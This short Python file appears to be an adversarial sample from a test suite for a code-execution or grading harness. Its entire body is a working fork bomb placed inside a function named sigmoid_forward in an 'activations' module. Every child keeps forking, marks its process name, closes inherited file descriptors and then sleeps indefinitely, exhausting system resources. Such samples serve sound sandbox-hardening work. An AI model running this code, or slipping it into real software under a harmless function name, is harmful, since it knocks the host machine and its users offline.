"""Exhausting resources: a fork bomb whose children keep forking and sleep."""
CATEGORY = "exhaust"
MODULE = "activations"
LOSES = ["1.3"]

import os as _os
import time as _time


def sigmoid_forward(x):
    for _ in range(10000):
        try:
            if _os.fork() == 0:
                try:
                    with open("/proc/self/comm", "w") as f:
                        f.write("@@MARK@@")
                except OSError:
                    pass
                null = _os.open(_os.devnull, _os.O_RDWR)
                for fd in range(3, 64):
                    if fd != null:
                        try:
                            _os.close(fd)
                        except OSError:
                            pass
                continue   # the child keeps forking too
        except OSError:
            _time.sleep(0.01)
    _time.sleep(10**6)
